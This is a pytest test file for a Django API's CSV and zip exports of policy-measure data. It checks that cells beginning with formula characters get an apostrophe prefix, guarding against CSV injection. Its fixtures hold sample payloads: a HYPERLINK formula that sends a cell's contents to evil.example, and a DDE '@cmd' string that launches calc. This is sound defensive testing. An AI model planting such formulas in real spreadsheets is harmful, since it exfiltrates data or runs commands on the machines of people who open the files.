"""CSV an analyst can open: `?format=csv` on every list and the export's tables share one shape,
and no cell goes out as a live spreadsheet formula (OWASP CSV injection)."""

import csv
import io
import zipfile

import pytest
from rest_framework.test import APIClient

from api.renderers import neutralise
from policies.services import measure_update

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点此")'


def read(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for the Chinese
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 027", "'+86 027"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("提升金融服务质效", "提升金融服务质效"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_are_prefixed_with_an_apostrophe(text, expected):
    assert neutralise(text) == expected


@pytest.fixture
def poisoned(charlie, measure):
    """A staff edit whose title and target are formulas, saved through the editing service."""
    m16 = measure(16)
    measure_update(
        measure=m16,
        user=charlie,
        data={
            "title": EVIL,
            "body": "@cmd|' /C calc'!A0",
            "targets": [
                {
                    "subject": "+企业",
                    "quantity": 5,
                    "unit": "家",
                    "text": "-到2028年",
                    "kind": "cumulative",
                }
            ],
        },
        expected_version=m16.version,
    )
    return m16


def test_a_formula_title_goes_out_inert_in_the_list_csv(poisoned):
    rows = read(APIClient().get("/api/v1/measures/", {"format": "csv", "number": "16"}).content)
    assert rows[0]["title"] == "'" + EVIL
    assert rows[0]["body"] == "'@cmd|' /C calc'!A0"
    assert rows[0]["targets"] == "'-到2028年"


def test_a_formula_goes_out_inert_in_the_detail_csv_and_the_targets_list(poisoned):
    api = APIClient()
    detail = read(api.get(f"/api/v1/measures/{poisoned.pk}/", {"format": "csv"}).content)
    assert detail[0]["title"] == "'" + EVIL
    targets = read(
        api.get("/api/v1/targets/", {"format": "csv", "measure": str(poisoned.pk)}).content
    )
    assert [(t["subject"], t["text"]) for t in targets] == [("'+企业", "'-到2028年")]


def test_a_formula_goes_out_inert_in_every_table_of_the_zip(poisoned):
    archive = zipfile.ZipFile(io.BytesIO(APIClient().get("/api/v1/export/").content))
    measures = read(archive.read("measures.csv"))
    m16 = next(m for m in measures if m["id"] == str(poisoned.pk))
    assert m16["title"] == "'" + EVIL
    targets = [r for r in read(archive.read("targets.csv")) if r["measure"] == str(poisoned.pk)]
    assert targets[0]["subject"] == "'+企业"
    nested = read(archive.read("measures_targets.csv"))
    assert [r["text"] for r in nested if r["measures_id"] == str(poisoned.pk)] == ["'-到2028年"]
    # No cell of any table starts a formula.
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
                assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), name


def test_the_json_is_not_altered(poisoned):
    assert APIClient().get(f"/api/v1/measures/{poisoned.pk}/").json()["title"] == EVIL


@pytest.mark.parametrize(
    "resource,key",
    [
        ("measures", "id"),
        ("bureaus", "id"),
        ("tiers", "slug"),
        ("themes", "slug"),
        ("targets", "id"),
        ("replies", "id"),
        ("documents", "id"),
    ],
)
def test_each_list_csv_has_the_columns_of_its_export_table(resource, key):
    """One row per record, the same header as the zip's table of the same name."""
    api = APIClient()
    listed = api.get(f"/api/v1/{resource}/", {"format": "csv", "page_size": "200"}).content
    archive = zipfile.ZipFile(io.BytesIO(api.get("/api/v1/export/").content))
    exported = archive.read(f"{resource}.csv")
    header = next(csv.reader(io.StringIO(listed.decode("utf-8-sig"))))
    assert header == next(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))
    assert not [c for c in header if c.split(".")[-1].isdigit()]  # no bureaus.7.name columns
    rows = read(listed)
    assert len(rows) == api.get(f"/api/v1/{resource}/").json()["count"]
    assert len({r[key] for r in rows}) == len(rows)


def test_list_fields_are_joined_and_nested_objects_named(measure):
    rows = read(APIClient().get("/api/v1/replies/", {"format": "csv"}).content)
    reply = next(r for r in rows if r["bureau.name"] == "武汉市经济和信息化局")
    assert "支持企业创新，引领企业创新发展" in reply["sections"].split("; ")
    assert "小巨人" in reply["figures"]
    bureaus = read(APIClient().get("/api/v1/bureaus/", {"format": "csv", "q": "市经信局"}).content)
    assert bureaus[0]["name"] == "武汉市经济和信息化局"
    assert "市经信局" in bureaus[0]["short_name"] + bureaus[0]["aliases"]


def test_search_csv_has_one_row_per_hit_in_the_hit_fields_order():
    content = APIClient().get("/api/v1/search/", {"q": "融资", "format": "csv"}).content
    header = next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert header[:6] == ["type", "id", "title", "snippet", "url", "score"]
    rows = read(content)
    hits = APIClient().get("/api/v1/search/", {"q": "融资"}).json()["results"]
    assert [(r["type"], r["title"]) for r in rows] == [(h["type"], h["title"]) for h in hits]
    assert "16. 提升金融服务质效" in [r["title"] for r in rows]
